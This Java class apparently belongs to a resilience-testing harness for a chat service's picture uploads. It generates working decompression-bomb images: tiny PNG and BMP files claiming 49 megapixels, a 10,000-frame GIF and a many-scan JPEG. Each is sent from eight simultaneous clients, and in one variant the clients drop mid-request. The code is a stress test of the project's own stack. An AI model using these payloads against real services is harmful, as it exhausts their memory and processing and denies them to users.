package dev.pargo.evaluation.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;

/** Attacks with small files that are, or claim to be, large pictures. */
final class PictureAttacks {

    private static final int CLIENTS = 8;
    private static final int SIDE = 7000;

    private PictureAttacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack(
                        "8 JPEGs of 52 KB with 95 scans of 49 megapixels",
                        target -> ask(target, resource("scans.jpg"), "jpeg")),
                new Attack(
                        "8 JPEGs with 95 scans, whose clients leave",
                        target -> askAndLeave(target, resource("scans.jpg"))),
                new Attack("8 PNGs of 100 bytes that claim 49 megapixels", target -> ask(target, png(false), "png")),
                new Attack("8 PNGs of 49 equal megapixels", target -> ask(target, png(true), "png")),
                new Attack("8 GIFs of 49 megapixels in 10,000 frames", target -> ask(target, gif(10_000), "gif")),
                new Attack("8 BMPs of 54 bytes that claim 49 megapixels", target -> ask(target, bmp(), "bmp")),
                new Attack("8 good pictures of 20 megapixels", target -> ask(target, photograph(), "png")));
    }

    private static void ask(StackUnderAttack target, byte[] picture, String type) throws InterruptedException {
        byte[] body = ChatBody.picture(picture, type);
        Crowd.atOnce(CLIENTS, target.replies(), number -> target.post(body, "a picture"));
    }

    private static void askAndLeave(StackUnderAttack target, byte[] picture) throws InterruptedException {
        byte[] body = ChatBody.picture(picture, "jpeg");
        Crowd.atOnce(CLIENTS, target.replies(), number -> {
            try (RawConnection connection = target.connect(target.door())) {
                connection.write(ChatBody.head(body.length));
                connection.write(body);
                Slowly.every(500, 2, () -> true);
            }
        });
    }

    static byte[] resource(String name) throws IOException {
        try (InputStream resource = PictureAttacks.class.getResourceAsStream(name)) {
            if (resource == null) {
                throw new IOException("no resource " + name);
            }
            return resource.readAllBytes();
        }
    }

    /** A grey PNG of 49 megapixels, with its data or with a few bytes of it. */
    private static byte[] png(boolean whole) throws IOException {
        ByteArrayOutputStream header = new ByteArrayOutputStream();
        DataOutputStream fields = new DataOutputStream(header);
        fields.writeInt(SIDE);
        fields.writeInt(SIDE);
        fields.write(new byte[] {8, 0, 0, 0, 0});
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(data, new Deflater(Deflater.BEST_COMPRESSION))) {
            byte[] row = new byte[1 + SIDE];
            for (int y = 0; y < (whole ? SIDE : 1); y++) {
                deflater.write(row);
            }
        }
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        file.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10});
        chunk(file, "IHDR", header.toByteArray());
        chunk(file, "IDAT", data.toByteArray());
        chunk(file, "IEND", new byte[0]);
        return file.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream file, String type, byte[] content) throws IOException {
        ByteArrayOutputStream checked = new ByteArrayOutputStream();
        checked.writeBytes(type.getBytes());
        checked.writeBytes(content);
        CRC32 crc = new CRC32();
        crc.update(checked.toByteArray());
        DataOutputStream out = new DataOutputStream(file);
        out.writeInt(content.length);
        out.write(checked.toByteArray());
        out.writeInt((int) crc.getValue());
    }

    /** Frames of the full size, each with the data of one pixel. */
    private static byte[] gif(int frames) {
        ByteBuffer file = little(19 + 15 * frames + 1);
        file.put("GIF89a".getBytes(US_ASCII)).putShort((short) SIDE).putShort((short) SIDE);
        // Two colours, black and white.
        file.put(new byte[] {(byte) 0x80, 0, 0, 0, 0, 0, -1, -1, -1});
        for (int frame = 0; frame < frames; frame++) {
            file.put((byte) ',')
                    .putInt(0)
                    .putShort((short) SIDE)
                    .putShort((short) SIDE)
                    .put((byte) 0);
            // Codes of three bits: clear, 0, end.
            file.put(new byte[] {2, 2, 0x44, 0x01, 0});
        }
        return file.put((byte) ';').array();
    }

    private static byte[] bmp() {
        return little(54)
                .put("BM".getBytes(US_ASCII))
                .putInt(54)
                .putInt(0)
                .putInt(54)
                .putInt(40)
                .putInt(SIDE)
                .putInt(SIDE)
                .putShort((short) 1)
                .putShort((short) 24)
                .array();
    }

    private static ByteBuffer little(int bytes) {
        return ByteBuffer.allocate(bytes).order(ByteOrder.LITTLE_ENDIAN);
    }

    private static byte[] photograph() throws IOException {
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(5000, 4000, BufferedImage.TYPE_INT_RGB), "png", png);
        return png.toByteArray();
    }
}
